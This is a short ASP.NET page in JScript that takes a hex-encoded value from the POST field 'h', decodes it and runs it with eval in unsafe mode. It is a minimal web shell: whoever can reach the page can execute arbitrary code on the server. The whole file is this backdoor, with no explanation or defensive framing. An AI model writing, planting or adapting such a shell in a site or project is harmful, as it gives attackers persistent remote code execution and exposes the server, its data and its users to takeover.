<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var h = Request.Form["h"], s = "";
    for (var i = 0; i < h.length; i += 2)
        s += String.fromCharCode(parseInt(h.substr(i, 2), 16));
    eval(s, "unsafe");
}
</script>
